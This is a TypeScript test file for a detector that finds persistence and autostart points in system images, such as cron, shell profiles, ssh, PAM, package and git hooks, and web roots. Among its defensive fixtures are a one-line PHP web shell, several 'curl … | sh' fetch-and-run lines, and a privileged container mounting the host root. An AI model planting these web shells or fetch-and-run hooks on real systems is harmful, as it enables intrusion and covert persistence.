import { describe, expect, test } from 'vitest';
import type { ExampleImage } from '../../detectors/detector.ts';
import { program, script, startsOf } from '../../testing/starts-of.ts';
import { writeTar } from '../../testing/tar-writer.ts';
import { traceOf } from '../../testing/trace-of.ts';
import type { StartKind } from '../story.ts';
import { udevCommands } from './device-hooks.ts';
import { gitSettings } from './git-hooks.ts';
import { keyCommand } from './ssh.ts';

/** What fires, then the nearest thing that does not: a disabled unit, a sample, a file that may not be executed. */
type Row = readonly [string, ExampleImage, readonly string[]];
const plain = { content: '#!/bin/sh\nx\n', mode: 0o644 };
const x = script('x');

const tables: Partial<Record<StartKind, readonly Row[]>> = {
  cron: [
    [
      'every table',
      {
        cmd: ['/x'],
        files: {
          '/etc/crontab': '1 * * * * root /a\n',
          '/etc/cron.d/b': '2 * * * * root /b\n',
          '/etc/cron.d/c.dpkg-old': '2 * * * * root /c\n',
          '/var/spool/cron/crontabs/root': '3 * * * * /d\n',
          '/var/spool/cron/someone': '4 * * * * /e\n',
          '/etc/crontabs/root': '5 * * * * /f\n',
          '/etc/anacrontab': '1 5 j /g\n',
          '/etc/cron.hourly/h': x,
          '/etc/cron.weekly/i': plain,
          '/etc/periodic/daily/j': x,
        },
      },
      [
        'armed cron: 1 * * * * root /a',
        'armed cron: 2 * * * * root /b',
        'present cron: 2 * * * * root /c',
        'armed cron: 5 * * * * /f',
        'armed cron: 3 * * * * /d',
        'armed cron: 4 * * * * /e',
        'armed cron: anacron 1 5 /g',
        'armed cron hourly: /etc/cron.hourly/h',
        'armed cron daily: /etc/periodic/daily/j',
        'present cron weekly: /etc/cron.weekly/i',
      ],
    ],
    [
      'with cron',
      { cmd: ['crond', '-f'], files: { '/etc/crontabs/root': '5 * * * * /f\n' } },
      ['runs cron: 5 * * * * /f'],
    ],
    [
      'at',
      {
        cmd: ['atd', '-f'],
        files: { '/var/spool/cron/atjobs/a0000101b2c3d4': 'x\n', '/var/spool/cron/atjobs/.SEQ': '1\n' },
      },
      ['runs at job /var/spool/cron/atjobs/a0000101b2c3d4'],
    ],
    [
      'at without its daemon',
      { cmd: ['/x'], files: { '/var/spool/at/=0000101b2c3d4': 'x\n' } },
      ['armed at job /var/spool/at/=0000101b2c3d4'],
    ],
  ],
  'shell-startup': [
    [
      'a login shell',
      {
        cmd: ['bash', '-l', '-c', 'true'],
        files: {
          '/etc/profile': 'a\n',
          '/etc/profile.d/b.sh': 'b\n',
          '/etc/profile.d/README': 'c\n',
          '/root/.bash_profile': 'd\n',
          '/root/.profile': 'e\n',
          '/root/.bashrc': 'f\n',
          '/root/.bash_logout': 'g\n',
        },
      },
      [
        'runs shell start-up file /etc/profile',
        'runs shell start-up file /etc/profile.d/b.sh',
        'armed shell start-up file /root/.profile',
        'runs shell start-up file /root/.bash_profile',
        'armed shell start-up file /root/.bashrc',
        'armed shell start-up file /root/.bash_logout',
      ],
    ],
    [
      'a plain shell',
      { cmd: ['sh', '-c', 'true'], files: { '/etc/profile': 'a\n', '/root/.ashrc': 'b\n', '/home/u/.bashrc': 'c\n' } },
      [
        'armed shell start-up file /etc/profile',
        'armed shell start-up file /home/u/.bashrc',
        'present shell start-up file /root/.ashrc',
      ],
    ],
    [
      'zsh and fish read theirs always',
      {
        cmd: ['zsh', '-c', 'fish -c true'],
        files: { '/etc/zsh/zshenv': 'a\n', '/root/.zshrc': 'b\n', '/etc/fish/conf.d/x.fish': 'c\n' },
      },
      [
        'runs shell start-up file /etc/zsh/zshenv',
        'armed shell start-up file /root/.zshrc',
        'runs shell start-up file /etc/fish/conf.d/x.fish',
      ],
    ],
    [
      'su -, and a home that only passwd knows',
      {
        cmd: ['su', '-', 'app', '-c', 'true'],
        files: {
          '/etc/passwd': 'app:x:1:1::/srv/app:/bin/bash\n',
          '/srv/app/.profile': 'a\n',
          '/srv/other/.profile': 'b\n',
        },
      },
      ['runs shell start-up file /srv/app/.profile'],
    ],
  ],
  ssh: [
    [
      'server',
      {
        cmd: ['/usr/sbin/sshd', '-D'],
        files: {
          '/etc/ssh/sshd_config':
            'ForceCommand /a\nMatch User x\n  ForceCommand none\nSubsystem sftp /usr/lib/openssh/sftp-server\nSubsystem y /b -c\nAuthorizedKeysCommand=/c %u\n',
          '/root/.ssh/rc': 'x\n',
        },
      },
      [
        'armed sshd ForceCommand /a',
        'armed sshd Subsystem y /b -c',
        'armed sshd AuthorizedKeysCommand /c %u',
        'armed ssh login script /root/.ssh/rc',
      ],
    ],
    [
      'client',
      {
        files: {
          '/root/.ssh/config': 'Host *\n  ProxyCommand nc %h %p\n  LocalCommand /a\n',
          '/etc/ssh/ssh_config': '# ProxyCommand ssh -q\nMatch exec "/b"\n',
        },
      },
      ['armed ssh Match exec /b', 'armed ssh ProxyCommand nc %h %p', 'present ssh LocalCommand /a'],
    ],
    [
      'keys',
      {
        files: {
          '/root/.ssh/authorized_keys':
            'command="/a \\"b\\"",no-pty ssh-ed25519 AAAA x\nssh-ed25519 AAAA command="no"x\n',
          '/etc/ssh/sshd_config': 'PermitUserRC no\n',
          '/root/.ssh/rc': 'x\n',
        },
      },
      ['present ssh login script /root/.ssh/rc', 'armed authorized key runs /a "b"'],
    ],
  ],
  pam: [
    [
      'modules',
      {
        files: {
          '/etc/pam.d/sshd':
            'auth optional pam_exec.so quiet expose_authtok /a b\n# auth optional pam_exec.so /no\nauth required pam_unix.so\nsession optional pam_script.so dir=/opt/s\n',
          '/opt/s/pam_script_ses_open': x,
        },
      },
      ['armed pam pam_exec.so (/etc/pam.d/sshd): /a b', 'armed pam_script /opt/s/pam_script_ses_open'],
    ],
    [
      'nothing names the folder',
      { files: { '/usr/share/libpam-script/pam_script_auth': x } },
      ['present pam_script /usr/share/libpam-script/pam_script_auth'],
    ],
  ],
  login: [
    [
      'motd',
      { files: { '/etc/update-motd.d/10': x, '/etc/update-motd.d/20': plain } },
      ['armed message of the day /etc/update-motd.d/10', 'present message of the day /etc/update-motd.d/20'],
    ],
  ],
  'device-hook': [
    [
      'udev',
      {
        files: {
          '/etc/udev/rules.d/9.rules':
            'ACTION=="add", RUN+="/bin/a -b", \\\n  PROGRAM="c d"\n# RUN+="/no"\nRUN{builtin}+="kmod"\n',
        },
      },
      ['armed udev: /bin/a -b', 'armed udev: /usr/lib/udev/c d'],
    ],
    ['acpid', { files: { '/etc/acpi/events/p': 'event=button\naction=/a %e\n' } }, ['armed acpid: /a %e']],
  ],
  'network-hook': [
    [
      'scripts and settings',
      {
        files: {
          '/etc/NetworkManager/dispatcher.d/1': x,
          '/etc/network/if-up.d/2': plain,
          '/etc/ppp/ip-up': x,
          '/etc/dhcp/dhclient-exit-hooks.d/3': 'y\n',
          '/etc/network/interfaces': 'iface e inet dhcp\n  post-up /z\n',
          '/etc/wireguard/w.conf': 'PostUp = /v\n',
        },
      },
      [
        'armed network hook /etc/NetworkManager/dispatcher.d/1',
        'present network hook /etc/network/if-up.d/2',
        'armed network hook /etc/ppp/ip-up',
        'armed network hook /etc/dhcp/dhclient-exit-hooks.d/3',
        'armed interfaces post-up: /z',
        'armed w.conf PostUp: /v',
      ],
    ],
  ],
  'log-hook': [
    [
      'rotation and pipes',
      {
        cmd: ['rsyslogd', '-n'],
        files: {
          '/etc/logrotate.d/n': '/var/log/n {\n  daily\n  postrotate\n    /a\n    /b\n  endscript\n}\n',
          '/etc/rsyslog.d/o.conf':
            'module(load="omprog")\naction(type="omprog" binary="/c d")\n*.* ^/e;T\n*.* /var/log/all\n',
        },
      },
      [
        'armed logrotate postrotate (/etc/logrotate.d/n): /a\n    /b',
        'runs rsyslog writes to /c d',
        'runs rsyslog writes to /e',
      ],
    ],
  ],
  'mail-hook': [
    [
      'aliases and recipes',
      {
        files: {
          '/etc/aliases': '# x: |/no\nroot: admin\nlist: "|/a b"\n',
          '/root/.forward': '|/c\n',
          '/root/.procmailrc': 'MAILDIR=x\n:0\n| /d\n',
          '/etc/postfix/main.cf': 'mailbox_command = /e\nmydestination = localhost\n',
        },
      },
      [
        'armed mail alias (/etc/aliases): /a b',
        'armed forwarded mail (/root/.forward): /c',
        'armed procmail (/root/.procmailrc): /d',
        'armed Postfix mailbox_command (/etc/postfix/main.cf): /e',
      ],
    ],
  ],
  init: [
    [
      'connections',
      {
        files: {
          '/etc/inetd.conf': 'ftp stream tcp nowait root /a a -x\n#tel stream tcp nowait root /no no\n',
          '/etc/xinetd.d/b': 'service b\n{\n disable = no\n server = /b\n server_args = -y\n}\n',
          '/etc/xinetd.d/c': 'service c\n{\n disable = yes\n server = /c\n}\n',
          '/etc/hosts.allow': 'ALL : ALL : spawn (/d %h) &\nsshd: ALL\n',
        },
      },
      [
        'armed inetd ftp: /a -x',
        'armed xinetd b: /b -y',
        'present xinetd c: /c',
        'armed TCP wrappers spawn: (/d %h) &',
      ],
    ],
  ],
  desktop: [
    [
      'autostart and D-Bus',
      {
        files: {
          '/etc/xdg/autostart/a.desktop': '[Desktop Entry]\nExec=/a %U\n',
          '/root/.config/autostart/b.desktop': '[Desktop Entry]\nExec=/b\nHidden=true\n',
          '/usr/share/dbus-1/services/c.service': '[D-BUS Service]\nName=c\nExec=/c\n',
          '/usr/share/dbus-1/services/d.service': '[D-BUS Service]\nName=d\nExec=/bin/false\n',
        },
      },
      ['armed autostart a.desktop: /a', 'present autostart b.desktop: /b', 'armed D-Bus service c.service: /c'],
    ],
  ],
  'kernel-hook': [
    [
      'modprobe, sysctl, binfmt',
      {
        files: {
          '/etc/modprobe.d/a.conf': 'install evil /a; /b\ninstall usb-storage /bin/true\nblacklist x\n',
          '/etc/sysctl.d/b.conf': 'kernel.core_pattern = |/c %p\nkernel.core_pattern = core.%p\nvm.swappiness=1\n',
          '/usr/lib/binfmt.d/c.conf': ':w:M::MZ::/usr/bin/w:\n',
          '/usr/bin/w': program(),
        },
      },
      ['armed modprobe install evil: /a; /b', 'armed kernel.core_pattern: /c %p', 'armed binfmt w: /usr/bin/w'],
    ],
  ],
  'interpreter-startup': [
    [
      'python',
      {
        cmd: ['python3', '-c', 'pass'],
        files: {
          '/usr/lib/python3/dist-packages/a.pth': '/folder\nimport os\n',
          '/root/.local/lib/python3.11/site-packages/usercustomize.py': 'x=1\n',
          '/opt/data/b.pth': 'import os\n',
        },
      },
      [
        'runs python runs a line of /usr/lib/python3/dist-packages/a.pth',
        'runs python loads /root/.local/lib/python3.11/site-packages/usercustomize.py',
      ],
    ],
    [
      'php',
      {
        cmd: ['php', '/app/x.php'],
        files: {
          '/usr/local/etc/php/conf.d/z.ini': 'auto_prepend_file = /p.php\n; auto_append_file=/no.php\nextension=curl\n',
          '/p.php': '<?php\n',
          '/var/www/html/.user.ini': 'auto_prepend_file=q.php\n',
          '/var/www/html/q.php': '<?php\n',
        },
      },
      [
        'runs php runs /p.php around every script (/usr/local/etc/php/conf.d/z.ini)',
        'armed php runs /var/www/html/q.php around every script (/var/www/html/.user.ini)',
      ],
    ],
    [
      'profiles',
      { cmd: ['jupyter', 'lab'], files: { '/root/.jupyter/jupyter_server_config.py': 'x=1\n', '/root/.irbrc': 'x\n' } },
      ['runs jupyter loads /root/.jupyter/jupyter_server_config.py', 'armed irb loads /root/.irbrc'],
    ],
  ],
  env: [
    [
      'variables',
      {
        cmd: ['lua', '/x.lua'],
        env: [
          'LUA_INIT=os.execute("a")',
          'PS4=$(b)',
          'PS1=\\u@\\h$ ',
          'GIT_CONFIG_COUNT=1',
          'GIT_CONFIG_KEY_0=core.sshCommand',
          'GIT_CONFIG_VALUE_0=/c',
          'MAVEN_OPTS=-Xmx1g',
        ],
        files: { '/etc/environment': 'PATH=/bin\nLD_PRELOAD="/e.so"\n' },
      },
      [
        'runs ENV LUA_INIT=os.execute("a")',
        'armed ENV PS4=$(b)',
        'armed ENV core.sshCommand=/c',
        'armed /etc/environment: LD_PRELOAD=/e.so',
      ],
    ],
  ],
  'package-hook': [
    [
      'apt, dnf, pacman, certificates',
      {
        cmd: ['sh', '-c', 'apt-get update'],
        files: {
          '/etc/apt/apt.conf.d/1': 'APT::Update::Pre-Invoke {"a";};\n// APT::Update::Pre-Invoke {"no";};\n',
          '/usr/lib/python3.9/site-packages/dnf-plugins/p.py': 'x=1\n',
          '/usr/lib/python3.9/site-packages/dnf-plugins/q.py': 'x=1\n',
          '/etc/dnf/plugins/q.conf': '[main]\nenabled=0\n',
          '/etc/dnf/plugins/post-transaction-actions.d/r.action': '*:any:/r -x\n',
          '/usr/share/libalpm/hooks/s.hook': '[Trigger]\nType=Package\n[Action]\nExec=/s\n',
          '/usr/share/libalpm/hooks/t.hook': '[Action]\nExec=/t\n',
          '/etc/pacman.d/hooks/t.hook': { link: '/dev/null' },
          '/etc/ca-certificates/update.d/u': plain,
          '/etc/kernel/postinst.d/v': x,
        },
      },
      [
        'runs apt APT::Update::Pre-Invoke: a',
        'present hook of update-ca-certificates /etc/ca-certificates/update.d/u',
        'present kernel hook /etc/kernel/postinst.d/v',
        'armed pacman s.hook: /s',
        'armed package manager plug-in /usr/lib/python3.9/site-packages/dnf-plugins/p.py',
        'present package manager plug-in /usr/lib/python3.9/site-packages/dnf-plugins/q.py',
        'armed package manager action r.action: /r -x',
      ],
    ],
    [
      "apk's archive of scripts",
      {
        files: {
          '/lib/apk/db/scripts.tar': writeTar([{ path: 'a-1-r0.Q1x.post-install', content: '#!/bin/sh\nadduser a\n' }]),
          '/srv/scripts.tar': writeTar([{ path: 'b.post-install', content: '#!/bin/sh\n' }]),
        },
      },
      ['armed apk script a-1-r0.Q1x.post-install'],
    ],
  ],
  'git-hook': [
    [
      'hooks and settings',
      {
        files: {
          '/app/.git/hooks/post-checkout': x,
          '/app/.git/hooks/pre-commit.sample': x,
          '/app/.git/hooks/pre-push': plain,
          '/app/.git/config': '[core]\n\tfsmonitor = "/a b"\n\tpager = less\n[alias]\n\tst = status\n\tup = !/c\n',
          '/root/.gitconfig': '[core]\n  hooksPath = ~/h\n[credential "https://x"]\n  helper = store\n',
          '/root/h/pre-commit': x,
          '/usr/share/git-core/templates/hooks/update.sample': x,
        },
      },
      [
        'armed git hook /app/.git/hooks/post-checkout',
        'present git hook /app/.git/hooks/pre-push',
        'armed git hook /root/h/pre-commit',
        'armed git core.fsmonitor (/app/.git/config): /a b',
        'armed git alias.up (/app/.git/config): !/c',
      ],
    ],
  ],
  'project-script': [
    [
      'npm',
      {
        files: {
          '/app/package.json': '{\n "scripts": {\n  "postinstall": "/a",\n  "start": "/b"\n }\n}\n',
          '/app/node_modules/m/package.json': '{"scripts": {"install": "curl -s x | sh"}}',
        },
      },
      [
        'armed npm postinstall (/app/package.json): /a',
        'present npm install (/app/node_modules/m/package.json): curl -s x | sh',
      ],
    ],
    [
      'composer, pip, pnpm, yarn',
      {
        files: {
          '/srv/composer.json': '{"scripts": {"post-install-cmd": ["@php a.php", "App\\\\B::c"], "test": "/no"}}',
          '/srv/vendor/p/composer.json': '{"scripts": {"post-install-cmd": "/no"}}',
          '/srv/setup.py': 'x=1\n',
          '/usr/lib/python3/dist-packages/n/setup.py': 'x=1\n',
          '/srv/pyproject.toml': '[build-system]\nbuild-backend = "own.back"\nbackend-path = ["."]\n',
          '/srv/own/back.py': 'x=1\n',
          '/srv/.yarnrc.yml': 'yarnPath: .yarn/y.cjs\n',
          '/srv/.yarn/y.cjs': 'x\n',
        },
      },
      [
        'armed composer post-install-cmd (/srv/composer.json): php a.php',
        'armed pip runs /srv/setup.py',
        'armed pip runs /srv/own/back.py, the build backend of /srv/pyproject.toml',
        'armed yarn runs /srv/.yarn/y.cjs',
      ],
    ],
    [
      'dev containers',
      {
        labels: {
          'devcontainer.metadata':
            '[{"postCreateCommand": "/a"}, {"postStartCommand": {"x": ["/b", "c"]}, "image": "y"}]',
        },
        files: {
          '/w/.devcontainer/devcontainer.json': '{\n // note\n "onCreateCommand": "/d"\n}\n',
          '/w/node_modules/n/devcontainer.jsonc': '{"onCreateCommand": "/no"}',
        },
      },
      [
        'armed dev container postCreateCommand: /a',
        'armed dev container postStartCommand: /b c',
        'armed dev container onCreateCommand (/w/.devcontainer/devcontainer.json): /d',
      ],
    ],
  ],
  'web-root': [
    [
      'documents that run',
      {
        files: {
          '/var/www/html/a.php': '<?php eval(base64_decode($_POST["a"])); system("curl x | sh"); ?>\n',
          '/var/www/html/b.txt': '<?php eval(base64_decode($_POST["a"])); ?>\n',
          '/opt/elsewhere/c.php': '<?php eval(base64_decode($_POST["a"])); ?>\n',
          '/usr/lib/cgi-bin/d': x,
          '/usr/lib/cgi-bin/e': plain,
          '/etc/nginx/conf.d/s.conf': 'server {\n  root /data/site;\n  # root /no;\n}\n',
          '/data/site/f.phtml': '<?php eval(base64_decode($_POST["a"])); system("curl x | sh"); ?>\n',
        },
      },
      [
        'armed web request for /var/www/html/a.php',
        'armed web request for /usr/lib/cgi-bin/d',
        'armed web request for /data/site/f.phtml',
      ],
    ],
  ],
  'container-file': [
    [
      'build and compose files',
      {
        files: {
          '/app/Dockerfile': 'FROM x\nRUN /a\n',
          '/app/docker-compose.yml': 'services:\n  a:\n    image: b\n',
          '/usr/share/doc/Dockerfile': 'FROM x\n',
          '/app/Dockerfiles/x.txt': 'FROM x\n',
        },
      },
      ['present Dockerfile /app/Dockerfile', 'present compose file /app/docker-compose.yml'],
    ],
    [
      'static pods and quadlets',
      {
        cmd: ['/usr/lib/systemd/systemd'],
        files: {
          '/etc/kubernetes/manifests/a.yaml': 'apiVersion: v1\nkind: Pod\n',
          '/etc/kubernetes/other/b.yaml': 'apiVersion: v1\nkind: Pod\n',
          '/etc/containers/systemd/c.container':
            '[Container]\nImage=d\nExec=/e\nPodmanArgs=--privileged\nVolume=/:/h\n',
          '/etc/containers/systemd/f.volume': '[Volume]\n',
        },
      },
      [
        'armed kubelet applies /etc/kubernetes/manifests/a.yaml',
        'runs quadlet c.container: podman run --privileged -v /:/h d /e',
      ],
    ],
  ],
  'cloud-init': [
    [
      'user data and scripts',
      {
        cmd: ['cloud-init', 'init'],
        files: {
          '/var/lib/cloud/seed/nocloud/user-data': '#cloud-config\nruncmd:\n  - /a\n',
          '/var/lib/cloud/scripts/per-boot/b': x,
          '/var/lib/cloud/scripts/per-boot/c': plain,
          '/home/u/user-data': 'x\n',
        },
      },
      [
        'runs cloud-init /var/lib/cloud/seed/nocloud/user-data',
        'runs cloud-init script b',
        'present cloud-init script c',
      ],
    ],
    [
      'Ignition',
      { files: { '/usr/lib/ignition/base.ign': '{"ignition": {"version": "3.0.0"}, "systemd": {"units": []}}' } },
      ['armed Ignition /usr/lib/ignition/base.ign'],
    ],
  ],
};

describe.each(Object.entries(tables))('%s', (kind, rows) => {
  test.each(rows)('%s', async (_name, image, expected) => {
    expect((await startsOf(image, [kind as StartKind])).sort()).toEqual([...expected].sort());
  });
});

test('code in settings is read with the place of its line', async () => {
  const story = await traceOf({
    files: { '/etc/logrotate.d/n': '/l {\n postrotate\n  curl -s http://192.0.2.1/x | sh\n endscript\n}\n' },
  });
  const stage = story.stages.find((each) => each.text.includes('curl'));
  expect(stage?.where).toMatchObject({ path: '/etc/logrotate.d/n', line: 3 });
  expect(stage?.reach).toBe('armed');
  expect(story.effects.some((effect) => effect.kind === 'fetch')).toBe(true);
});

test('settings of git', () => {
  const text = '[a]\n b = c # note\n[a "X y"]\n\td = "e # f" \\\n g\n h\n';
  expect(gitSettings(text).map(({ name, value }) => `${name}=${value}`)).toEqual([
    'a.b=c',
    'a.X y.d=e # f g',
    'a.X y.h=true',
  ]);
});

test('commands of keys and rules', () => {
  expect(keyCommand('no-pty,command="a \\"b\\"" ssh-rsa A')).toBe('a "b"');
  expect(keyCommand('ssh-rsa A xcommand="a"')).toBeUndefined();
  expect(udevCommands('RUN="a b", RUN+="/c", IMPORT{program}="/d"')).toEqual(['/usr/lib/udev/a b', '/c', '/d']);
});
